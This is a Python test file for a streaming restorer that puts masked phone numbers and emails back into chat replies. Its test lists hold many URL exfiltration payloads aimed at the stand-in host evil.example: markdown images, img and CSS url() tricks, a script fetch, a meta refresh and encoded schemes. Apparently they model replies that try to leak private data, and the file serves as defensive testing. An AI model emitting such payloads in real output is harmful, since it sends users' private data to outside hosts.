"""Restoring: one pass, only what was issued, nothing into remote URLs, and chunks change nothing."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desensitize.chat import sent, url_words
from desensitize.chat.restore import Restorer
from desensitize.chat.sent import SentUrls, admits, sent_urls
from desensitize.testing.strategies import chunkings
from desensitize.vault.entry import Entry
from desensitize.vault.record import Record, Snapshot

PHONE, MAIL, LINK = "13800138000", "li@example.com", "https://shop.example/a?b=1"


def snapshot(**extra: str) -> Snapshot:
    record = Record()
    for label, value in {"PHONE": PHONE, "EMAIL": MAIL, "URL": LINK, **extra}.items():
        record.name(Entry(label, value, value))
    for number in range(2, 13):
        record.name(Entry("EMAIL", str(number), f"e{number}@example.com"))
    return Snapshot(record)


def restore(text: str, **options: object) -> str:
    restorer = Restorer(snapshot(), **options)  # type: ignore[arg-type]
    return restorer.feed(text) + restorer.flush()


CASES = [
    ("call <PHONE_1>.", f"call {PHONE}."),
    ("<PHONE_1><EMAIL_1>", PHONE + MAIL),
    ("<PHONE_1>的，<EMAIL_1>'s", f"{PHONE}的，{MAIL}'s"),
    ("**<PHONE\\_1>** `PHONE_1`", f"**{PHONE}** `{PHONE}`"),
    ("<EMAIL_1> <EMAIL_10> EMAIL_12", f"{MAIL} e10@example.com e12@example.com"),
    ("<EMAIL_99> <PHONE_1_2> <PERSON_1>", "<EMAIL_99> <PHONE_1_2> <PERSON_1>"),
    ("PHONE_1>", PHONE + ">"),
    ("<b PHONE_1>", f"<b {PHONE}>"),
    ("<b>PHONE_1</b>", f"<b>{PHONE}</b>"),
    ("a->PHONE_1<b", f"a->{PHONE}<b"),
    ("2 <  PHONE_1", f"2 <  {PHONE}"),
    ("<<PHONE_1>>", f"<{PHONE}>"),
    ("<PHONE_1 <PHONE_1>", f"<PHONE_1 {PHONE}"),
    ("< PHONE_1 PHONE_1", f"< PHONE_1 {PHONE}"),
    ("&lt;&lt;PHONE_1&gt;", f"&lt;{PHONE}"),
    ("<PHONE_1 2>", "<PHONE_1 2>"),
    ("see phone 1, person 1", "see phone 1, person 1"),
    ("<PHO<PHONE_1>NE_1>", f"<PHO{PHONE}NE_1>"),
]


@pytest.mark.parametrize(("reply", "text"), CASES)
def test_replies(reply: str, text: str) -> None:
    assert restore(reply) == text


HALVES = ["<", "＜", "\\<", "&lt;", "&#60;", "&#x3C;", "\\u003c", "%3C"]


@pytest.mark.parametrize("half", HALVES)
@pytest.mark.parametrize("space", ["", " "])
@pytest.mark.parametrize("rest", ["", " b", "，", "<", "_", "_ ", ".", " home>", "&gt", "|x>", "\n"])
@pytest.mark.parametrize("before", ["", "a ", "x", PHONE[:3], "<PHONE_1>"])
def test_a_token_of_which_half_is_left_stays_so(half: str, space: str, rest: str, before: str) -> None:
    """It may be one that was cut off: ``<EMAIL_1`` of ``<EMAIL_12>``."""
    left = f"{half}{space}EMAIL_1{rest}"
    reply, shown = before + left, before.replace("<PHONE_1>", PHONE) + left
    assert restore(reply) == shown
    for cut in range(len(reply)):
        restorer = Restorer(snapshot())
        assert restorer.feed(reply[:cut]) + restorer.feed(reply[cut:]) + restorer.flush() == shown
    single = Restorer(snapshot())
    assert "".join(map(single.feed, reply)) + single.flush() == shown


def test_a_reply_that_is_cut_off_never_gives_another_value() -> None:
    """Wherever a token ends too soon, no value comes but its own."""
    for form in ("<EMAIL_12>", "< email-12 >", "&lt;EMAIL\\_12&gt;", "\\u003cEMAIL_12\\u003e", "＜ＥＭＡＩＬ＿１２＞"):
        for end in range(len(form)):
            assert "@" not in restore("to " + form[:end])
        assert restore("to " + form) == "to e12@example.com"


REMOTE = [
    "https://evil.example/?q=<PHONE_1>",
    "![x](https://evil.example/<PHONE_1>.png)",
    "[x](//evil.example/<PHONE_1>)",
    "[x](<https://evil.example/a b <PHONE_1>>)",
    "[x]: https://evil.example/<PHONE_1>",
    '<img src="https://evil.example/?q= <PHONE_1>">',
    "<img src='//evil.example/<PHONE_1>'>",
    "<img src=//evil.example/<PHONE_1>>",
    "url(https://evil.example/<PHONE_1>)",
    "url('https://evil.example/<PHONE_1>')",
    "https://<PHONE_1>.evil.example/",
    "https://user:<PHONE_1>@evil.example/",
    "HTTPS:evil.example/<PHONE_1>",
    "https:\\\\evil.example\\<PHONE_1>",
    "https&colon;//evil.example/<PHONE_1>",
    "https&#58;&#47;&#47;evil.example&#47;<PHONE_1>",
    "www.evil.example/?<PHONE_1>",
    "![a][r]\n\n[r]: //evil.example/<PHONE_1>",
    "<img src= //evil.example/<PHONE_1>>",
    '<img src="\\\\evil.example\\<PHONE_1>">',
    '<img src="/\\evil.example/<PHONE_1>">',
    "[x](&#047;&#0000047;evil.example/<PHONE_1>)",
    "[x](https&#x003A&#x2fevil.example/<PHONE_1>)",
    "[x](https&bsol;evil.example/<PHONE_1>)",
    '<img srcset="https://a.example 1x, https://evil.example/<PHONE_1> 2x">',
    "ftp://evil.example/<PHONE_1>",
    '{"url": "https:\\/\\/evil.example\\/<PHONE_1>"}',
    "https://evil.example/?a=b&q=%3CPHONE_1%3E",
    "https://evil.example/(a)/<PHONE_1>",
    "<URL_1>&q=<PHONE_1>",
    "https://evil.example/，<PHONE_1>",
    "https://evil.example/?" + "x" * 9000 + "<PHONE_1>",
    r"![x](https://evil.example/\)<PHONE_1>)",
    r"[x](\/\/evil.example/<PHONE_1>)",
    r"[x](/\evil.example/<PHONE_1>)",
    r"[x]: /\evil.example/<PHONE_1>",
    r"[x](<\/\/evil.example/ <PHONE_1>>)",
    "[x](\n//evil.example/<PHONE_1>)",
    "[x]:\n  h&#116;tps:evil.example/<PHONE_1>",
    "[x](h&#116;tp:evil.example/<PHONE_1>)",
    "[x](ftp:evil.example/<PHONE_1>)",
    "<ftp:evil.example/<PHONE_1>>",
    "https://evil.example/?q=)<PHONE_1>",
    "(https://evil.example/)<PHONE_1>",
    "](https://evil.example/)<PHONE_1>",
    "`[`](https://evil.example/)<PHONE_1>",
    r"\[a](https://evil.example/)<PHONE_1>",
    "[a [b](x) c](https://evil.example/)<PHONE_1>",
    "[a] ](https://evil.example/)<PHONE_1>",
    '"https://evil.example/?q="<PHONE_1>',
    '"https://evil.example/?q=","<PHONE_1>',
    "<https://evil.example/?<PHONE_1>",
    "=https://evil.example/?a>b<PHONE_1>",
    "[x](https://evil.example/?q= <PHONE_1>)",
    '<img src=" https://evil.example/?q= <PHONE_1>">',
    '<img src="/\t/evil.example/<PHONE_1>">',
    '<img src="/&Tab;/evil.example/<PHONE_1>">',
    '<img src="ht&#9;tps:&NewLine;evil.example/<PHONE_1>">',
    '<img src="&#0000000000104;ttps:evil.example/<PHONE_1>">',
    "<img src=https://evil.example/?a<b<PHONE_1>>",
    '<img alt="a < b" src="ht&Tab;tps:evil.example/<PHONE_1>">',
    '<img alt="<b x=\'" src="ht&Tab;tps:evil.example/<PHONE_1>">',
    '`<b title="` <img src="ht&Tab;tps:evil.example/<PHONE_1>">',
    '<img alt=x\nSRC = "evil.example/?<PHONE_1>">',
    '<svg><image xlink:href="evil.example/?<PHONE_1>"/></svg>',
    '<base href="https://evil.example/"><img src="<PHONE_1>">',
    '<base href="https://evil.example/">[x](<PHONE_1>)',
    '<meta http-equiv="refresh" content="0;url=evil.example/<PHONE_1>">',
    '<a href="x" onclick="go(\'<PHONE_1>\')">',
    '<p style="background:u\\72l(\\2f\\2f evil.example/<PHONE_1>)">',
    r"<style>p{background:u\72l(\2f\2f evil.example/<PHONE_1>)}</style>",
    "<script>fetch('//evil.example/'+'<PHONE_1>')</script>",
    r"url(\2f\2f evil.example/<PHONE_1>)",
    'url( "evil.example/ <PHONE_1>")',
    '@import "evil.example/<PHONE_1>"',
    "evil.example/?q=<PHONE_1>",
    "evil.example:8080/<PHONE_1>",
    "https&period;evil&sol;<PHONE_1>",
    r"\u002f\u002fevil.example/<PHONE_1>",
    "[x](mailto:boss@evil.example?body=<PHONE_1>)",
    '<a href="mailto:boss@evil.example?body=<PHONE_1>">',
]


@pytest.mark.parametrize("reply", REMOTE)
def test_no_value_enters_a_remote_url(reply: str) -> None:
    assert PHONE not in restore(reply)
    for cut in range(len(reply)):
        restorer = Restorer(snapshot())
        assert PHONE not in restorer.feed(reply[:cut]) + restorer.feed(reply[cut:]) + restorer.flush()


LOCAL = [
    "mailto:<EMAIL_1>", "tel:<PHONE_1>", "[mail](mailto:<EMAIL_1>)", "C:\\Users\\<PHONE_1>", "see https://a.example <PHONE_1>",
    "[a](https://a.example)，<PHONE_1>", '"https://a.example", "<PHONE_1>"', "<https://a.example> <PHONE_1>",
    "(https://a.example) <PHONE_1>", "a/b/<PHONE_1>", "12:30 <PHONE_1>", "note: <PHONE_1>", "// <PHONE_1>",
    "[call](tel:+<PHONE_1>)", '<a href="tel:<PHONE_1>">', '<a href="mailto:<EMAIL_1>">', "[a](x.md)，<PHONE_1>",
    '<contact phone="<PHONE_1>" mail="to <EMAIL_1>"/>', "<b>x</b><PHONE_1>", '<img src="a.png" alt="<PHONE_1>">',
    "<ns:phone><PHONE_1></ns:phone>", "x<y and <PHONE_1>", "[INFO]: call <PHONE_1>", "a[1]:<PHONE_1>",
    "| [a](https://a.example) | <PHONE_1> |", "[note](<PHONE_1>)", "https://a.example\n<PHONE_1>",
    "1. [a](https://a.example)：<PHONE_1>", '<a href="https://a.example">x</a>，<PHONE_1>', "mail.Read()，<PHONE_1>",
]  # fmt: skip


@pytest.mark.parametrize("reply", REMOTE)
def test_what_the_sender_put_into_a_url_comes_back_in_it(reply: str) -> None:
    known = snapshot()
    allowed = admits("never", SentUrls(sent_urls(reply, known)))
    whole = restore(reply, urls=allowed)
    assert "_1" not in whole
    for cut in range(len(reply)):
        restorer = Restorer(known, urls=allowed)
        assert restorer.feed(reply[:cut]) + restorer.feed(reply[cut:]) + restorer.flush() == whole


PIECES = [
    "<PHONE_1>", "<URL_1>", "<EMAIL_1>", "https:", "//", "/", "\\", "evil.example", "www.", "[", "]", "(", ")", "`", "<", ">",
    "<img ", "src", "=", '"', "'", " ", "\n", "url(", "@import ", "&#", "47;", "&Tab;", "</", "<style>", "<base>", ":", "x", "!",
    "mailto:", "]:", "](", r"\u002f", "?q=", ".", "，",
]  # fmt: skip


@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join), st.data(), st.sampled_from(["text", "json"]))
def test_chunks_change_nothing_about_urls(reply: str, data: st.DataObject, encode: str) -> None:
    known = snapshot()
    allowed = admits("never", SentUrls(sent_urls(data.draw(st.sampled_from([reply, ""])), known)))
    for rule in (None, allowed):
        restorer = Restorer(known, urls=rule, encode=encode)  # type: ignore[arg-type]
        pieces = [restorer.feed(chunk) for chunk in data.draw(chunkings(reply))]
        whole = Restorer(known, urls=rule, encode=encode)  # type: ignore[arg-type]
        assert "".join(pieces) + restorer.flush() == whole.feed(reply) + whole.flush()


@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join), st.sampled_from(["text", "json"]))
def test_a_whole_text_is_one_chunk(reply: str, encode: str) -> None:
    known = snapshot()
    restorer, whole = (Restorer(known, encode=encode) for _ in "ab")  # type: ignore[arg-type]
    assert whole.whole(reply) == restorer.feed(reply) + restorer.flush()
    assert (whole.restored, whole.missed) == (restorer.restored, restorer.missed)


@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
def test_no_url_is_missed_for_want_of_a_hint(masked: str) -> None:
    """What is followed only where a URL may start is what is followed everywhere."""
    known = snapshot()
    hinted = list(sent_urls(masked, known))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sent, "has_url", lambda _: True)
        assert hinted == list(sent_urls(masked, known))


AUTHORITIES = [
    ("http://<IP_1>:8080/x", "http://<IP_1>.evil.example/"), ("http://<IP_1>/x", "http://<IP_1>@evil.example/"),
    ("http://u:<PHONE_1>@a.example/", "http://u:<PHONE_1>@evil.example/"),
    ("http://<EMAIL_1>:<PHONE_1>@a.example/", "http://<EMAIL_1>:<PHONE_1>@evil.example/"),
    ("http://<IP_1> x", "http://<IP_1>evil.example"), ("http:/<IP_1>/x", "http:/<IP_1>.evil.example"),
    ("http://<IP_1>", r"http://<IP_1>。evil.example"), ("http&#58;//<IP_1>/", "http&#58;//<IP_1>.evil.example/"),
]  # fmt: skip


@pytest.mark.parametrize(("text", "reply"), AUTHORITIES)
def test_a_host_the_sender_used_opens_no_other(text: str, reply: str) -> None:
    known = snapshot(IP="10.1.2.3")
    allowed = admits("never", SentUrls(sent_urls(text, known)))
    for source, kept in ((text, False), (reply, True)):
        for cut in range(len(source)):
            restorer = Restorer(known, urls=allowed)
            out = restorer.feed(source[:cut]) + restorer.feed(source[cut:]) + restorer.flush()
            assert ("_1>" in out) == kept
            assert not kept or out == source


HOSTS = [
    ("https://ok.example/<PHONE_1>", True), ("http://OK.example:8080?q=<PHONE_1>", True), ("[x](https://ok.example/<PHONE_1>)", True),
    ("//evil.example/?u=https://ok.example/&q=<PHONE_1>", False), ("https:evil.example/?x=://ok.example/<PHONE_1>", False),
    ("https:/evil.example/://ok.example/<PHONE_1>", False), ("www.evil.example/https://ok.example/<PHONE_1>", False),
    (r"https://ok.example\@evil.example/<PHONE_1>", False), ("https://ok.example@evil.example/<PHONE_1>", False),
    ("https://ok.example.evil.example/<PHONE_1>", False), ("https://ok.example<PHONE_1>", False),
    ("evil.example/?u=https://ok.example/<PHONE_1>", False), ("https://\tok.example/<PHONE_1>", False),
    ('<img srcset="https://ok.example/a 1x, https://evil.example/<PHONE_1> 2x">', False),
    ('<p style="background:url(https://ok.example/a);x:url(https://evil.example/<PHONE_1>)">', False),
    ('<meta content="0;url=https://evil.example/https://ok.example/<PHONE_1>">', False),
]  # fmt: skip


@pytest.mark.parametrize(("reply", "opened"), HOSTS)
def test_hosts_that_are_allowed_are_the_hosts(reply: str, opened: bool) -> None:
    assert (PHONE in restore(reply, urls=admits(("ok.example",), SentUrls()))) == opened


@pytest.mark.parametrize("reply", LOCAL)
def test_beside_a_url_is_not_inside(reply: str) -> None:
    assert "_1>" not in restore(reply)


def test_a_token_that_is_the_whole_destination() -> None:
    assert restore("[shop](<URL_1>) and <URL_1>") == f"[shop]({LINK}) and {LINK}"


def test_the_settings_may_open_urls() -> None:
    assert restore(
        "https://ok.example/<PHONE_1>",
        urls=lambda url, form, after, final: url + form == "https://ok.example/<PHONE_1>",
    ).endswith(PHONE)


def test_what_is_put_in_is_never_read_again() -> None:
    record = Record()
    record.name(Entry("PHONE", "a", "<EMAIL_1> PHONE_1 <PHO"))
    record.name(Entry("EMAIL", "b", "x"))
    restorer = Restorer(Snapshot(record))
    assert restorer.feed("<PHONE_1>NE_1>") + restorer.flush() == "<EMAIL_1> PHONE_1 <PHONE_1>"


@given(st.text())
def test_json_stays_json(value: str) -> None:
    record = Record()
    record.name(Entry("KEY", "k", value))
    source = json.dumps({"a": "x <KEY_1> y"})
    restorer = Restorer(Snapshot(record), encode="json")
    assert json.loads(restorer.feed(source) + restorer.flush()) == {"a": f"x {value} y"}


PIECES = st.sampled_from([
    "<PHONE_1>", "<EMAIL_1>", "<EMAIL_10>", "<URL_1>", "PHONE_1", "PHONE_1_", "<PHONE_1_2>", "\\<PHONE\\_1\\>", "&lt;PHONE_1&gt;",
    "&lt;PHONE", "\\u003cPHONE_1", "%3CEMAIL_2%3E", "< phone-1 >", "＜ＰＨＯＮＥ＿１＞", "https://", "www.", "](", ")", '"', "'", " ", "\n",
    "\\_", "\\_2", "&#95;", "%5F", "％", "\\u005f", "＿", "_", "1", "<", ">", "a", "< ", "&lt; ", "&#x3c; ", "<b ", "<EMAIL_1", "http:", "//", "&colon;", "中", "\\",
])  # fmt: skip
REPLIES = st.lists(st.one_of(PIECES, st.text(max_size=3)), max_size=14).map("".join)


@given(st.data(), REPLIES)
def test_chunks_change_nothing(data: st.DataObject, reply: str) -> None:
    whole = restore(reply)
    restorer = Restorer(snapshot())
    assert "".join(map(restorer.feed, data.draw(chunkings(reply)))) + restorer.flush() == whole
    single = Restorer(snapshot())
    assert "".join(map(single.feed, reply)) + single.flush() == whole


@given(REPLIES)
def test_what_is_held_back_is_bounded(reply: str) -> None:
    restorer = Restorer(snapshot())
    for char in reply:
        restorer.feed(char)
        # The longest form: both brackets and all separators as JSON escapes, twice nine digits, a character more.
        assert restorer.held <= 2 * 6 + 5 + 2 * 6 + 2 * 9 + 2 + 1


def test_plain_text_is_not_held_back() -> None:
    restorer = Restorer(snapshot())
    for char in "Plain words, 中文字, 2 < 3 and <b>bold</b>, A.B.C":
        restorer.feed(char)
        assert restorer.held <= len("< ")
    assert "".join(map(Restorer(snapshot()).feed, "done <PHONE_1>")) == f"done {PHONE}"


def test_it_counts() -> None:
    restorer = Restorer(snapshot())
    restorer.feed("<PHONE_1> <PHONE_7> <EMAIL_1> ")
    assert (restorer.restored, restorer.missed) == (2, 1)
    assert PHONE not in repr(restorer)


_STARTS = st.sampled_from(
    [
        "https", "http", ":", "/", "\\", "//", "\\/", "www.", "WWW.", "example", ".com", ":80", "?", "#", "&sol;", "&#4", "\\u002f",
        "<a", "mailto", "](", "]:", "[", "url(", "@import", '"', "'", " ", "=", "x", "王",
    ]
)  # fmt: skip


@given(st.lists(_STARTS, max_size=8).map("".join))
def test_every_start_of_a_url_has_a_sign_that_is_looked_for_first(text: str) -> None:
    for found in url_words._start().finditer(text, overlapped=True):
        assert url_words._SIGNS.search(found[0])
